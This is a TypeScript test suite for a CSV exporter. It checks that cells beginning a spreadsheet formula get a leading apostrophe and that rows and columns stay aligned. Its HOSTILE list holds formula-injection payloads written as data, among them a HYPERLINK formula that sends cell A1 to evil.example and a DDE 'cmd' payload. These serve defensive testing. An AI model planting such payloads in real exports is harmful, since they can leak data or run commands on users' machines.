import fc from 'fast-check'
import { expect, test } from 'vitest'
import { toCsv, type Cell } from './csv.ts'

/** Reads RFC 4180 as a spreadsheet does. */
function read(csv: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let quoted = false
  for (let at = 0; at < csv.length; at += 1) {
    const mark = csv[at]!
    if (quoted && mark === '"' && csv[at + 1] === '"') {
      cell += '"'
      at += 1
    } else if (mark === '"') quoted = !quoted
    else if (!quoted && (mark === ',' || mark === '\r')) {
      rows.at(-1)!.push(cell)
      cell = ''
      if (mark === '\r') {
        at += 1
        rows.push([])
      }
    } else cell += mark
  }
  return rows.slice(0, -1)
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Nomsa")',
  '+27821234567',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '\t=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\r=1+1',
  '＝1+1',
  '＠SUM(A1)',
  '|cmd',
  '%0A=1',
]
test.each(HOSTILE)('%j begins no formula', (name) => {
  const [[cell]] = read(toCsv([[name]]).slice(1)) as [[string]]
  expect(cell).toBe(`'${name}`)
})

test('names that people have stay as they are', () => {
  const names = ['Nomsa Dlamini', "O'Brien", 'van der Merwe, Sr', 'Thandi "Tee" Zulu', 'Ünal', '']
  expect(read(toCsv([names]).slice(1))).toEqual([names])
})

test('a byte order mark, line ends of RFC 4180, and numbers that are numbers', () => {
  expect(
    toCsv([
      ['a', 'b'],
      [1.5, null],
    ]),
  ).toBe('\ufeff"a","b"\r\n1.5,""\r\n')
})

test('whatever is in a cell, rows and columns stay where they are', () => {
  const cell: fc.Arbitrary<Cell> = fc.oneof(fc.string({ unit: 'grapheme' }), fc.integer())
  fc.assert(
    fc.property(fc.array(fc.tuple(cell, cell, cell), { minLength: 1 }), (rows) => {
      const seen = read(toCsv(rows).slice(1))
      return (
        seen.length === rows.length &&
        seen.every((row) => row.length === 3 && row.every((text) => !/^[=@＝＠]/.test(text)))
      )
    }),
  )
})
